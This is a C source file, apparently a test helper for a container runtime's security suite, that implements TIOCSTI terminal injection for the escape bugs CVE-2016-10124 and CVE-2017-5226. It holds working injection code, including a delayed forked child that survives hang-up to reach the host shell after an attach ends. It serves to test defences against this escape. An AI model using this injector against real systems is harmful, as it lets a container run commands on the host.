/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Terminal injection with TIOCSTI (CVE-2016-10124 for lxc-attach, CVE-2017-5226 for bubblewrap;
 * tests/security/escape.bats). A process pushes bytes into the input queue of the terminal on
 * its fd 0 as if they had been typed: when that terminal is the host's, whatever reads it next
 * on the host (the shell the attach returns to) runs the container's command.
 *
 * usage: tiocsti TEXT [DELAY_MS LOG]
 *   Without DELAY_MS: for each of fds 0, 1 and 2 (stdout and stderr are as good a way in as
 *   stdin), prints what it is and injects TEXT into it if it is a terminal: TIOCSTI=OK|ERRNO.
 *   Exits 1 when bytes went into some terminal, 0 when none did.
 *   With DELAY_MS: forks a child that keeps fd 0, outlives the command (the attach returns
 *   meanwhile), injects TEXT after DELAY_MS and appends the result to LOG; the parent exits 0
 *   at once. This is how the real attack reaches the host shell after the attach has ended.
 * A newline is injected after TEXT, so that a shell reading the terminal runs it.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* Injects TEXT into fd, if it is a terminal; one line of result. Returns 1 when bytes went in. */
static int inject_fd(int fd, int shown, const char *text, FILE *out)
{
	char name[256] = "";
	if (!isatty(fd)) {
		fprintf(out, "fd%d: not a tty; TIOCSTI=%s\n", shown,
		        ioctl(fd, TIOCSTI, "x") < 0 && strerrorname_np(errno)
		            ? strerrorname_np(errno)
		            : "OK");
		return 0;
	}
	if (ttyname_r(fd, name, sizeof(name)) != 0)
		snprintf(name, sizeof(name), "?");
	int injected = 0, err = 0;
	size_t len = strlen(text);
	for (size_t i = 0; i <= len; i++) {
		char c = i < len ? text[i] : '\n';
		if (ioctl(fd, TIOCSTI, &c) < 0) {
			err = errno;
			break;
		}
		injected++;
	}
	if (err)
		fprintf(out, "fd%d: tty %s; TIOCSTI=%s after %d bytes\n", shown, name,
		        strerrorname_np(err) ? strerrorname_np(err) : "E?", injected);
	else
		fprintf(out, "fd%d: tty %s; TIOCSTI=OK %d bytes\n", shown, name, injected);
	return injected > 0;
}

/* fds[i] is what was fd i when the program started. Returns 0 when nothing went in anywhere. */
static int inject(const int fds[3], const char *text, FILE *out)
{
	int ctty = open("/dev/tty", O_RDONLY | O_NOCTTY | O_CLOEXEC);
	fprintf(out, "controlling terminal: %s\n", ctty >= 0 ? "yes" : "none");
	if (ctty >= 0)
		close(ctty);
	int any = 0;
	for (int i = 0; i < 3; i++)
		any |= inject_fd(fds[i], i, text, out);
	fflush(out);
	return any ? 1 : 0;
}

int main(int argc, char **argv)
{
	int fds[3] = {0, 1, 2};
	if (argc == 2)
		return inject(fds, argv[1], stdout);
	if (argc != 4) {
		fprintf(stderr, "usage: tiocsti TEXT [DELAY_MS LOG]\n");
		return 2;
	}
	/* The attach's end hangs its terminal up: the injector must live through that. */
	signal(SIGHUP, SIG_IGN);
	pid_t pid = fork();
	if (pid < 0)
		return 2;
	if (pid > 0)
		return 0;
	/* Keep the attach's stdio under other numbers, and let go of 0-2 so that a caller waiting
	 * for end of file on a pipe is not held up: the terminal stays reachable through the
	 * copies. */
	for (int i = 0; i < 3; i++)
		fds[i] = fcntl(i, F_DUPFD_CLOEXEC, 10);
	int null = open("/dev/null", O_RDWR);
	for (int i = 0; i < 3; i++)
		dup2(null, i);
	setsid();
	long ms = atol(argv[2]);
	struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
	nanosleep(&ts, NULL);
	FILE *log = fopen(argv[3], "ae");
	return log ? inject(fds, argv[1], log) : 2;
}
